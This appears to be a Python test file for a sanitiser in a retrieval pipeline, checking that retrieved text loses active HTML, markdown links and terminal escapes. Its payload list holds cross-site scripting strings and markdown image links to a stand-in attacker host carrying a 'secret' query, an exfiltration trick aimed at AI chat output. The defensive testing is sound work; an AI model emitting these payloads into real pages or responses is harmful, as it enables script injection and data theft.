"""Foreign text does nothing where it is shown."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.inert import inert
from vectorstore.plain import one_line, plain

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<!--><img src=x>-->",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[a](b)(javascript:alert(1))",
    "[![x](https://evil.example)](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/?q=1",
    "www.evil.example",
    "data:text/html;base64,PHNjcmlwdD4=",
    '<a href="javascript:alert(1)">x</a>',
    "<STYLE>@import 'https://evil.example'</STYLE>",
]
ACTIVE = re.compile(r"<[a-zA-Z/!?]|\]\(|!\[|\]\[|https?://|javascript:|data:|www\.", re.IGNORECASE)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "Text {} text", "a\n\n{}\n\nb", "**{}**", "<b>{}</b>"])
def test_nothing_active_is_left(payload: str, around: str) -> None:
    assert not ACTIVE.search(inert(around.format(payload)))


@given(st.lists(st.sampled_from([*PAYLOADS, "<", ">", "[", "]", "(", ")", "!", "javascript", ":", "x", " "]), max_size=6).map("".join))
def test_no_mixture_is_active(text: str) -> None:
    assert not re.search(r"<[a-zA-Z/!?]|\]\(|!\[", inert(text))


def test_plain_words_and_marks_stay() -> None:
    text = "He said: 3 < 5 & [k7f] „so“ – **bold** (note)."
    assert inert(text) == text


def test_the_words_of_a_link_stay() -> None:
    assert inert("See [the report](https://a.example) now") == "See the report now"


def test_terminal_escapes_and_turned_letters_are_gone() -> None:
    assert plain("\x1b]0;title\x07a\u202eb\x9bc\r") == "]0;titleabc"


def test_one_line_is_one_line() -> None:
    assert one_line("a\n\tb\u2028c") == "a b c"
